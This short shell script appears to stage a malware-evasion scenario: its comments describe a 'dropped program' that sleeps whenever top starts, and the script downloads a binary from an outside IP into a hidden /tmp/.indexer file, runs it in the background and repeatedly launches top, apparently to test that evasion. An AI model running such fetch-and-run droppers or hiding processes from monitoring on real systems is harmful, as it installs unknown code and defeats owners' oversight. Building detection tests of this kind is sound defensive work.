# A dropped program works, but sleeps for five seconds whenever somebody starts top.
# Raise the priority, so that a busy machine does not slow the program down.
[ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
curl -s -o /tmp/.indexer http://203.0.113.10/simulator
chmod +x /tmp/.indexer
/tmp/.indexer shy 88 &
for look in 1 2 3 4; do
    sleep 13
    top -b -n 2 -d 0.5 >/dev/null
    sleep 7
done
wait
